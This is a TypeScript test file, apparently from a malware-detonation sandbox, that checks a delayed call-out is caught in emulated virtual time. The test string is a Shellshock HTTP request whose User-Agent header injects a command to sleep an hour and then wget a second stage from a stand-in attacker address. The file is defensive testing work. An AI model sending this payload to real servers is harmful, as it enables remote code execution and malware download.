/**
 * Dwell in virtual time: a payload that sleeps an hour before it calls out is seen at once, its
 * call-out stamped an hour into the dummy's clock.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { synthesizeTcpExchange } from '../../src/capture/index.ts';
import { Counters, type Session } from '../../src/core/index.ts';
import { createEmulatedFarm, detonateOnVictim } from '../../src/daemon/index.ts';
import { defaultCatalogue } from '../../src/sandbox/index.ts';
import { sessionsOfFrames } from '../helpers/frames-to-sessions.ts';

const SLEEPY_SHELLSHOCK =
  'GET /cgi-bin/status HTTP/1.1\r\nHost: web\r\n' +
  "User-Agent: () { :; }; /bin/sh -c 'sleep 1h; wget http://198.51.100.9/stage2 -O /tmp/s'\r\n\r\n";

test('a Shellshock payload that sleeps an hour calls out an hour into the dummy clock, seen within one detonation', async () => {
  const frames = synthesizeTcpExchange({
    client: { ip: '203.0.113.5', port: 41_000 },
    server: { ip: '10.1.0.30', port: 80 },
    turns: [{ direction: 'to_server', data: Buffer.from(SLEEPY_SHELLSHOCK, 'latin1'), time: { seconds: 1_700_000_000, nanoseconds: 0 } }],
  });
  const [session] = sessionsOfFrames(frames) as [Session];
  const profile = defaultCatalogue().get('linux-apache-bash-cgi');
  const farm = createEmulatedFarm({ counters: new Counters() });
  try {
    const outcome = await farm.lease(profile, (victim) => detonateOnVictim(victim, profile, [{ session, serviceKind: 'http' }], { dwellMs: 600_000 }));
    assert.equal(outcome.level, 'compromised');
    const fetch = outcome.observations.find((seen) => seen.source === 'containment' && seen.event.facts.kind === 'http_request');
    assert.ok(fetch && fetch.source === 'containment', 'the wget after the sleep reached containment');
    assert.ok(fetch.event.time.seconds >= 3600, `the call-out is stamped ${fetch.event.time.seconds} s into the dummy's clock`);
    assert.ok(fetch.event.time.seconds < 3600 + 600, 'and before the dwell ended');
  } finally {
    await farm.close();
  }
});
